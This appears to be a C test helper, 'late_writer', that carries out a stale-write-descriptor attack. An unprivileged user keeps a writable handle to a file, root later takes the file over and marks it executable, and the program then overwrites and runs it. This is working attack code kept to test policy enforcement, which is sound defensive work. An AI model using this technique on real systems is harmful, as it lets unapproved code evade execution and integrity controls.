/* SPDX-License-Identifier: Apache-2.0 */
/*
 * late_writer UID TARGET PROGRAM ARGUMENT…
 *
 * TARGET belongs to UID, who opens it for writing; then root takes the file over, as
 * an administrator would who makes it fit for a policy. Prints `pid=… ready`, waits
 * for a line, writes PROGRAM over it by what it kept, and becomes `TARGET ARGUMENT…`.
 */
#include <fcntl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>

#include "tests/support/attacks/attack.h"

int main(int argc, char** argv) {
  char line[16];
  struct stat state;
  if (argc < 4) {
    fputs("usage: late_writer UID TARGET PROGRAM ARGUMENT…\n", stderr);
    return 2;
  }
  uid_t uid = (uid_t)atoi(argv[1]);
  alarm(60);
  int source = open(argv[3], O_RDONLY | O_CLOEXEC);
  if (source < 0 || fstat(source, &state) != 0) attack_fail(argv[3]);
  if (seteuid(uid) != 0) attack_fail("seteuid");
  int kept = open(argv[2], O_WRONLY | O_CLOEXEC);
  if (kept < 0) attack_fail(argv[2]);
  if (seteuid(0) != 0 || chown(argv[2], 0, 0) != 0 || chmod(argv[2], 0755) != 0) {
    attack_fail(argv[2]);
  }
  attack_become(uid, uid);
  printf("pid=%d ready\n", getpid());
  fflush(stdout);
  if (read(STDIN_FILENO, line, sizeof(line)) < 0) attack_fail("standard input");
  if (ftruncate(kept, 0) != 0) attack_fail(argv[2]);
  for (off_t left = state.st_size; left > 0;) {
    ssize_t bytes = sendfile(kept, source, NULL, (size_t)left);
    if (bytes <= 0) attack_fail("writing");
    left -= bytes;
  }
  close(kept);
  argv[3] = argv[2];
  execv(argv[2], argv + 3);
  attack_fail(argv[2]);
}
